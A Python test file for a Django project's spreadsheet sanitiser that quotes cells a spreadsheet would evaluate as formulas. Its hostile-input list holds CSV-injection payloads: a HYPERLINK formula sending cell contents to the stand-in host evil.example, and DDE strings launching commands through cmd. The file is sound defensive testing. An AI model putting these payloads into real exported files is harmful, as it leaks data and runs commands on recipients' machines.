"""``spreadsheet.safe_cell``: what a spreadsheet would evaluate is written as text (OWASP)."""

import pytest
from django.utils.translation import gettext_lazy

from xinyong.spreadsheet import safe_cell, safe_row


@pytest.mark.parametrize(
    "hostile",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"点此")',
        "+86 10 6512 3456",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+",
        "-５",  # a full-width digit is not a plain number
        "-1e5",
    ],
)
def test_text_that_starts_a_formula_gets_a_quote(hostile):
    assert safe_cell(hostile) == "'" + hostile


@pytest.mark.parametrize("kept", ["北京市东城区", "", "1=1", "a@b.cn", " =1", "（=1）", "'=1", "2024-03-15"])
def test_ordinary_text_is_written_as_it_is(kept):
    assert safe_cell(kept) == kept


@pytest.mark.parametrize("number", ["-5", "+5", "-3.25", "-0.5", "-.5", "+12."])
def test_a_plain_number_written_as_text_stays_a_number(number):
    assert safe_cell(number) == number


@pytest.mark.parametrize("value", [-5, -3.25, 0, None, True])
def test_values_that_are_not_text_are_never_touched(value):
    assert safe_cell(value) is value


def test_rows_and_lazy_translations():
    assert safe_row([-1, "=A1", gettext_lazy("名称")]) == [-1, "'=A1", "名称"]
